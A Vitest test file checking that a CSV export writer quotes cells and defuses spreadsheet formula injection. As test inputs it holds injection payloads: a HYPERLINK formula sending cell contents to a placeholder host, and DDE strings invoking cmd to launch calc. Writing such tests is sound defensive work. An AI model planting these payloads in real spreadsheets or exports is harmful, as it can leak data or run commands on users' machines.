// Both CSV exports (kept-aside rows, verify's differences) go through one writer: RFC 4180 quoting, and
// no cell a spreadsheet would run as a formula, whatever the source's names and values hold.
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../shared/csv';
import { differencesCsv, type VerifyReport } from '../../shared/verify';
import { exceptionsCsv } from '../../renderer/store/exceptions';
import type { RowException } from '../../shared/exceptions';

const LEADS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** How a spreadsheet sees a cell: unquoted, and whether its first character starts a formula. */
const runs = (cell: string) => {
  const text = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  return /^[=+\-@\t\r＝＋－＠]/.test(text);
};

describe('csvCell', () => {
  it.each(LEADS)('writes a cell led by %j as text behind a quote', (lead) => {
    const cell = csvCell(`${lead}HYPERLINK("http://x.invalid/?"&A1,"open")`);
    expect(runs(cell)).toBe(false);
    expect(cell).toBe(`"'${lead}HYPERLINK(""http://x.invalid/?""&A1,""open"")"`);
  });

  it('keeps plain values and numbers as they are, and quotes commas, quotes and line breaks', () => {
    expect(csvCell('dbo.Orders')).toBe('dbo.Orders');
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('-1E5')).toBe('-1E5');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"\n')).toBe('"say ""hi""\n"');
    expect(csvCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
  });

  it('ends every line with CRLF, the header first', () => {
    expect(csvText(['a', 'b'], [['1', '=2']])).toBe(`a,b\r\n1,"'=2"\r\n`);
  });
});

describe('the two exports', () => {
  it.each(LEADS)('neither lets a table or key led by %j through as a formula', (lead) => {
    const table = `${lead}cmd|'/C calc'!A0`;
    const report = {
      tables: [
        { table, differences: [{ kind: 'missing', key: { Id: `${lead}1+1` }, columns: [`${lead}x`] }] },
      ],
    } as unknown as VerifyReport;
    const kept = [
      {
        id: 1,
        table,
        op: 'insert',
        key: { Id: `${lead}2+2` },
        position: '1',
        values: { Name: `${lead}SUM(A1)` },
        error: `${lead}error`,
        raw: null,
        at: '2026-11-28T00:00:00Z',
        triedAt: '',
        attempts: 0,
      },
    ] as unknown as RowException[];
    for (const csv of [differencesCsv(report), exceptionsCsv(kept)]) {
      const lines = csv.split('\r\n').slice(1, -1);
      expect(lines.length).toBeGreaterThan(0);
      for (const line of lines)
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? [])
          expect(runs(cell), line).toBe(false);
      expect(csv).toContain(`'${lead}cmd`);
    }
  });
});
